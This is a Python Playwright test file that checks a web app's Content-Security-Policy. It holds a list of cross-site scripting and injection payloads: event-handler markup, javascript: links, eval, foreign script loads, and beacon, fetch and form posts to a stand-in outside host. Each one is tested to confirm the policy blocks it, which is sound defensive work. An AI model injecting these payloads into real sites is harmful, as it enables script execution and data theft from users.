"""What is injected into a page does not run, load, connect or dress: the policy has no exception."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import suppress
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Error, Page

from tests.patience import until
from tests.web.conftest import Enter
from tests.web.serving import Server

EXPECTED = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; "
    "manifest-src 'self'; frame-ancestors 'none'; base-uri 'none'; form-action 'self'"
)

ATTEMPTS = {
    "an inline script": ("script-src", "add('script', { textContent: 'ran()' })"),
    "a handler": ("script-src", 'html(\'<img src="data:,x" onerror="ran()">\')'),
    "a handler of a drawing": ("script-src", "html('<svg><animate onbegin=\"ran()\" attributeName=x dur=1s /></svg>')"),
    "a script address": ("script-src", "html('<a id=evil href=\"javascript:ran()\">x</a>'); evil.click()"),
    "a foreign script": ("script-src", "add('script', { src: `${other}/script.js` })"),
    "a foreign module": ("script-src", "import(`${other}/script.js`)"),
    "a script in an address": ("script-src", "import('data:text/javascript,ran()')"),
    "eval": ("script-src", "(0, eval)('ran()')"),
    "a function from text": ("script-src", "new Function('ran()')()"),
    "a timer with text": ("script-src", "setTimeout('ran()')"),
    "a worker from text": ("worker-src", "new Worker(URL.createObjectURL(new Blob([`fetch('${other}/worker')`])))"),
    "an inline style": ("style-src", "add('style', { textContent: 'body { --evil: 1 }' }); dressed(document.body)"),
    "a style attribute": ("style-src", "html('<p id=evil style=\"--evil: 1\">'); dressed(evil)"),
    "a foreign style": ("style-src", "add('link', { rel: 'stylesheet', href: `${other}/style.css` })"),
    "a foreign image": ("img-src", "add('img', { src: `${other}/image.png` })"),
    "a foreign address": ("connect-src", "fetch(`${other}/fetched`)"),
    "a foreign connection": ("connect-src", "new WebSocket(other.replace('http', 'ws'))"),
    "a beacon": ("connect-src", "navigator.sendBeacon(`${other}/beacon`, 'x')"),
    "a frame": ("frame-src", "add('iframe', { src: `${other}/frame` })"),
    "a frame from text": ("script-src", "html('<iframe srcdoc=\"<script>parent.ran()</script>\"></iframe>')"),
    "a plug-in": ("object-src", "add('object', { data: `${other}/object` })"),
    "another base": ("base-uri", "add('base', { href: other }, document.head); add('img', { src: 'based.png' })"),
    "a form that leaves": (
        "form-action",
        'html(`<form id=evil method=post action="${other}/form"></form>`); evil.submit()',
    ),
}
"""What an attacker who can write markup or call a function would do: the directive that stops it, and how."""

BEGIN = """
window.stopped = [];
window.happened = 0;
window.ran = () => { window.happened += 1; };
document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => top.stopped.push(effectiveDirective));
"""

TRY = """([attempt, other]) => {
  const add = (name, given, where = document.body) => where.append(Object.assign(document.createElement(name), given));
  const html = (text) => document.body.insertAdjacentHTML('beforeend', text);
  const dressed = (element) => getComputedStyle(element).getPropertyValue('--evil') && ran();
  document.querySelectorAll('#evil').forEach((element) => element.remove());
  ACTIONS;
  setTimeout(() => { try { actions[attempt](); } catch { /* refused */ } }, 0);
}"""
"""The attempt is made by the page itself, later: what a debugger calls directly may do more."""


class Other:
    """Another site, which hears what a page asks of it."""

    def __init__(self) -> None:
        heard = self.heard = list[str]()

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                heard.append(self.path)
                self.send_response(200)
                kind = {"js": "text/javascript", "css": "text/css"}.get(self.path.rpartition(".")[2], "text/html")
                self.send_header("content-type", kind)
                self.send_header("access-control-allow-origin", "*")
                self.end_headers()

            do_GET = do_POST = _answer  # noqa: N815

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        """Hear no more."""
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def other() -> Iterator[Other]:
    site = Other()
    yield site
    site.stop()


def attempt(page: Page, name: str, other: Other) -> None:
    """Let the page do one of them."""
    actions = ", ".join(f"{key!r}: () => {{ {how} }}" for key, (_, how) in ATTEMPTS.items())
    page.evaluate(TRY.replace("ACTIONS", f"const actions = {{ {actions} }}"), [name, other.address])


def opened(enter: Enter, address: str, **options: bool) -> Page:
    """A page that notes what is tried on it."""
    page = enter("about:blank", faults_count=False, **options)
    page.add_init_script(BEGIN)
    answer = page.goto(address)
    assert answer is not None
    assert answer.headers["content-security-policy"] == EXPECTED
    return page


def test_what_is_injected_does_nothing(server: Server, enter: Enter, other: Other) -> None:
    """The browser says which directive stopped it; nothing ran, nothing was asked of another site."""
    page = opened(enter, f"{server.base}/table/pa-spanish-21")
    for name, (directive, _) in ATTEMPTS.items():
        page.evaluate("() => { window.stopped = []; }")
        attempt(page, name, other)
        page.wait_for_function("it => window.stopped.some((found) => found.startsWith(it))", arg=directive)
        page.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
        assert (page.evaluate("() => window.happened"), other.heard) == (0, []), name


def test_without_the_policy_it_would(server: Server, enter: Enter, other: Other) -> None:
    """Negative control: in a browser that heeds no policy each of them runs, or asks the other site."""
    page = opened(enter, f"{server.base}/login", bypass_csp=True)
    for name in ATTEMPTS:
        before, ran = len(other.heard), page.evaluate("() => window.happened")
        attempt(page, name, other)
        until(partial(_went_on, page, other, before, ran), f"{name} happens")


def _went_on(page: Page, other: Other, heard: int, ran: int) -> bool:
    """Whether something happened; a page that is leaving is asked again."""
    if len(other.heard) > heard:
        return True
    with suppress(Error):
        return bool(page.evaluate("() => window.happened") > ran)
    return False
